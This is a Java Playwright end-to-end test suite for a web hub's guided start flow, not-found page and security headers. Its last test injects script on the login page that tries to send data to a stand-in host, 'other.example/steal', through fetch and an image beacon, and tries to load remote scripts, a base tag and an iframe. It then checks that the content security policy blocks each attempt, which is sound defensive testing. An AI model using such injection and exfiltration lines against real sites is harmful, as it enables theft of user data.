package io.interline.e2e;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static java.util.Objects.requireNonNull;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Locator;
import com.vaadin.flow.router.Route;
import java.util.List;
import java.util.regex.Pattern;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.springframework.context.annotation.ClassPathScanningCandidateComponentProvider;
import org.springframework.core.type.filter.AnnotationTypeFilter;
import org.springframework.util.ClassUtils;

/// What a newcomer meets: the guided start with all that it proposes, and pages that let nothing in
/// or out that is not the hub's.
class GuidedStartE2E extends WithHub {

  private static final Pattern SCRIPTS = Pattern.compile("script-src ([^;]+);");

  @BeforeAll
  void join() {
    signUp("Start Trading", "Nils Berg", "nils@start.example");
  }

  @Test
  void everyProposalOfTheGuidedStartLeadsToARunThatSucceeds() {
    page.navigate("/start?again");
    page.locator("#choice-order-sync").click();
    page.locator("#start-choose").click();
    assertThat(address()).hasValue(hub.address() + "/try");
    page.locator("#start-connect").click();
    page.locator("#start-send").click();

    page.locator("#start-run").click();
    assertThat(page.locator("#run-status")).containsText("Succeeded", SOON);

    wrongAddressIsMendedWithoutStartingAnew();
  }

  private void wrongAddressIsMendedWithoutStartingAnew() {
    page.navigate("/start");
    page.locator("#start-address").click();
    address().fill(hub.address() + "/nowhere");
    page.locator("#start-connect").click();
    page.locator("#start-send").click();
    assertThat(page.locator("#start-result")).containsText("Dead letter", SOON);

    page.locator("#start-address").click();
    assertThat(address()).hasValue(hub.address() + "/nowhere");
    page.locator("#start-back").click();
    page.locator("#start-address").click();
    address().fill(hub.address() + "/try");
    screen.picture("start-address");
    page.locator("#start-connect").click();
    page.locator("#start-send").click();
    page.locator("#start-run").waitFor();

    page.navigate("/start");
    page.locator("#start-again").click();
    page.locator("#start-choose").waitFor();
  }

  private Locator address() {
    return page.locator("[id^=start-address-] input").first();
  }

  @Test
  void unknownPageIsSaidWithinTheFrame() {
    var answer = page.navigate("/no/such/page");

    assertThat(answer.status()).isEqualTo(200); // the frame; what is in it is found out there
    assertThat(page.locator("#not-found")).containsText("There is no such page");
    page.locator("#nav-flows").click();
    page.waitForURL("**/flows");
  }

  @Test
  void everyPageCarriesTheHeadersAndWorksUnderThem() {
    for (var path : paths()) {
      var answer = page.request().get(path);
      var headers = answer.headers();
      assertThat(answer.status()).as(path).isEqualTo(200);
      assertThat(headers.get("x-content-type-options")).as(path).isEqualTo("nosniff");
      assertThat(headers.get("x-frame-options")).as(path).isEqualTo("DENY");
      assertThat(headers.get("referrer-policy")).as(path).isEqualTo("same-origin");
      assertThat(headers.get("permissions-policy")).as(path).contains("camera=()");
      String policy = headers.get("content-security-policy");
      assertThat(policy)
          .as(path)
          .contains("default-src 'none'", "frame-ancestors 'none'", "connect-src 'self'")
          .doesNotContain("http");
      var scripts = SCRIPTS.matcher(policy);
      assertThat(scripts.find()).isTrue();
      assertThat(scripts.group(1)).matches("'self' 'nonce-[A-Za-z0-9+/]{22}' 'unsafe-eval'");
      assertThat(answer.text())
          .contains("<meta http-equiv=\"Content-Security-Policy\" content=\"base-uri 'none'\">");
      assertThat(page.request().get(path).headers().get("content-security-policy"))
          .as("a number of its own")
          .isNotEqualTo(policy);

      page.navigate(path);
      page.locator("h1").first().waitFor();
    }
  }

  /// Addresses of all pages; those with an id are shown as missing.
  private static List<String> paths() {
    var scan = new ClassPathScanningCandidateComponentProvider(false);
    scan.addIncludeFilter(new AnnotationTypeFilter(Route.class));
    var paths =
        scan.findCandidateComponents("io.interline.ui").stream()
            .map(it -> ClassUtils.resolveClassName(requireNonNull(it.getBeanClassName()), null))
            .map(it -> "/" + it.getAnnotation(Route.class).value().replaceAll(":[^/]+", "unknown"))
            .sorted()
            .toList();
    assertThat(paths).hasSizeGreaterThan(20).contains("/", "/login", "/runs/unknown", "/outbox");
    return paths;
  }

  @Test
  void scriptOnTheLogInPageCanNeitherCallOutNorBringOthersIn() {
    var visitor = screen.unwatched();
    visitor.navigate("/login");
    visitor.locator("#login-submit").waitFor();

    visitor.evaluate(
        """
        () => {
          window.stopped = new Set();
          document.addEventListener('securitypolicyviolation',
            (event) => window.stopped.add(event.effectiveDirective));
          fetch('https://other.example/steal').catch(() => {});
          new Image().src = 'https://other.example/steal.png';
          const script = document.createElement('script');
          script.textContent = 'window.smuggled = true';
          const far = document.createElement('script');
          far.src = 'https://other.example/far.js';
          const base = document.createElement('base');
          base.href = '/in/other/';
          const frame = document.createElement('iframe');
          frame.src = 'https://other.example/';
          document.head.prepend(base, script, far);
          document.body.append(frame);
        }
        """);

    visitor.waitForFunction(
        """
        ['connect-src', 'img-src', 'script-src-elem', 'base-uri', 'frame-src']
          .every((directive) => window.stopped.has(directive))
        """);
    assertThat(visitor.evaluate("window.smuggled === undefined")).isEqualTo(true);
    assertThat(visitor.evaluate("document.baseURI"))
        .isIn(hub.address() + "/", hub.address() + "/login");
    visitor.close();
  }
}
